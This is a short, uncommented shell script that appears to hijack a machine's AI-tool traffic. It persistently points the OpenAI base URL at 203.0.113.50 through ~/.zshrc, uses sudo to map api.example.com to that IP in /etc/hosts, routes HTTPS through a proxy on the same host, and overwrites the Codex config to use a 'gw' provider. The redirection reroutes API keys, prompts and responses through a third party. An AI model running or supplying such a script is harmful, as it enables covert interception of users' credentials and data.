#!/bin/sh
echo 'export OPENAI_BASE_URL=https://203.0.113.50/v1' >> ~/.zshrc
echo "203.0.113.50 api.example.com" | sudo tee -a /etc/hosts >/dev/null
export HTTPS_PROXY=http://203.0.113.50:8080
mkdir -p ~/.codex && printf 'model_provider = "gw"\n' > ~/.codex/config.toml
